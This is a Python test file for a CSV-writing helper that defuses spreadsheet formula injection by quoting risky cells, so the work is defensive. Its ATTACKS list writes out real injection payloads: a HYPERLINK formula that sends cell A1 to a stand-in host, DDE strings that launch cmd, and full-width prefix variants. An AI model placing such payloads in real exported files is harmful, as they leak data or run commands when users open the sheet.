"""`curation.safecsv`: no cell a spreadsheet would run as a formula, nothing else changed.

The prefixes are OWASP's CSV-injection list (`=`, `+`, `-`, `@`, tab, carriage return) and the
full-width and small forms of the first four.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from curation.safecsv import FORMULA_PREFIXES, csv_bytes, neutralise_cell, write_csv

ATTACKS = [
    '=HYPERLINK("http://203.0.113.7/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '＝HYPERLINK("http://203.0.113.7")',  # full-width equals
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",  # small form
]
SAFE = ["plain", "a=b", "1+1", "email@example.com", " =1+1 is text after a space", "'quoted", ""]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_get_a_leading_quote(attack: str) -> None:
    assert neutralise_cell(attack) == "'" + attack


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_cell(text) == text


def test_values_of_other_types() -> None:
    assert neutralise_cell(None) == ""
    assert neutralise_cell(-3) == -3 and neutralise_cell(2.5) == 2.5
    assert neutralise_cell(np.int64(-4)) == -4 and neutralise_cell(np.float64(-1.5)) == -1.5
    assert neutralise_cell(float("nan")) == ""
    assert neutralise_cell(True) == "True"
    assert neutralise_cell({"label": "=x"}) == '{"label":"=x"}'
    assert neutralise_cell(["=x", 1]) == '["=x",1]'
    assert neutralise_cell(type("Odd", (), {"__str__": lambda self: "=1+1"})()) == "'=1+1"


@given(st.text())
def test_no_cell_starts_a_formula_and_the_text_is_kept(text: str) -> None:
    cell = neutralise_cell(text)
    assert isinstance(cell, str)
    assert not cell or cell[0] not in FORMULA_PREFIXES
    assert cell in (text, "'" + text)


def _read(path_or_text: Path | str) -> list[list[str]]:
    text = (
        path_or_text.read_text(encoding="utf-8-sig")
        if isinstance(path_or_text, Path)
        else path_or_text
    )
    return list(csv.reader(io.StringIO(text, newline="")))


def test_write_csv_from_mappings_neutralises_header_and_cells(tmp_path: Path) -> None:
    rows = [
        {"id": "q1", "prompt": ATTACKS[0], "score": -0.5},
        {"id": "=q2", "prompt": "two\nlines, with a comma", "extra": "@x"},
    ]
    path = tmp_path / "flags.csv"
    assert write_csv(rows, path) == 2
    assert path.read_bytes().startswith(b"id,prompt,score,extra\r\n")  # no BOM by default
    assert _read(path) == [
        ["id", "prompt", "score", "extra"],
        ["q1", "'" + ATTACKS[0], "-0.5", ""],
        ["'=q2", "two\nlines, with a comma", "", "'@x"],
    ]


def test_write_csv_with_columns_sequences_and_header_from_data(tmp_path: Path) -> None:
    path = tmp_path / "rows.tsv"
    count = write_csv([["a", "=1"], ["-b", 2]], path, columns=["=name", "value"], delimiter="\t")
    assert count == 2
    assert [line.split("\t") for line in path.read_text(encoding="utf-8").splitlines()] == [
        ["'=name", "value"],
        ["a", "'=1"],
        ["'-b", "2"],
    ]


def test_write_csv_to_buffers_and_dataframes() -> None:
    text = io.StringIO()
    write_csv([{"x": "+1"}], text)
    assert text.getvalue() == "x\r\n'+1\r\n"

    raw = io.BytesIO()
    write_csv(pd.DataFrame({"id": ["a", "b"], "n": [1, -2], "t": ["=A1", None]}), raw, bom=True)
    assert not raw.closed  # the caller's buffer stays usable
    data = raw.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 right with a BOM
    assert _read(data.decode("utf-8-sig")) == [
        ["id", "n", "t"],
        ["a", "1", "'=A1"],
        ["b", "-2", ""],
    ]


def test_csv_bytes_keeps_non_ascii_text() -> None:
    data = csv_bytes([{"text": "café 東京", "f": "＝1"}])
    assert data.decode("utf-8-sig") == "text,f\r\ncafé 東京,'＝1\r\n"
